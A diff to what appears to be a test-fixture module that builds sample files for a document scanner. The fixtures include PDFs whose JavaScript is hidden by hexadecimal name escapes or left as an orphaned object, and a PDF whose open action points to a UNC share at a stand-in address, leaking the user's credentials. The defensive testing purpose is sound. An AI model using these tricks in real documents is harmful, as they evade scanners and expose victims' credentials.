@@ -39,6 +39,13 @@ def webp() -> bytes:
     return _saved(Image.new("RGB", (40, 30), (1, 2, 3)), "WEBP")
 
 
+def photo_with_preview() -> bytes:
+    """Return a JPEG behind which a second picture stands, as phones make them."""
+    small = Image.new("RGB", (8, 6), (10, 120, 200))
+    picture = Image.new("RGB", (60, 30), (10, 120, 200))
+    return _saved(picture, "MPO", save_all=True, append_images=[small])
+
+
 def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
     out = io.BytesIO()
     picture.save(out, kind, **options)
@@ -94,6 +101,30 @@ def pdf_with_hidden_script() -> bytes:
     )
     writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
     return _written(writer).replace(b"/JS", b"/#4a#53")
+
+
+def pdf_with_forgotten_script() -> bytes:
+    """Return one whose script nothing leads to any more, its name written in hexadecimal.
+
+    A reader that mends a file by looking for its objects finds it all the same.
+    """
+    writer = _writer()
+    writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/PlaceHolder123")}))
+    return _written(writer).replace(b"/PlaceHolder123", b"/J#61v#61Script")
+
+
+def pdf_that_opens_a_share(action: str = "/GoToR") -> bytes:
+    """Return one that has the reader open a file elsewhere, and greet it with the user's name."""
+    writer = _writer()
+    where = DictionaryObject(
+        {
+            NameObject("/S"): NameObject(action),
+            NameObject("/F"): TextStringObject(r"\\\\192.0.2.1\\share"),
+            NameObject("/D"): TextStringObject("x"),
+        }
+    )
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): where})
+    return _written(writer)
 
 
 def pdf_with_launch() -> bytes:
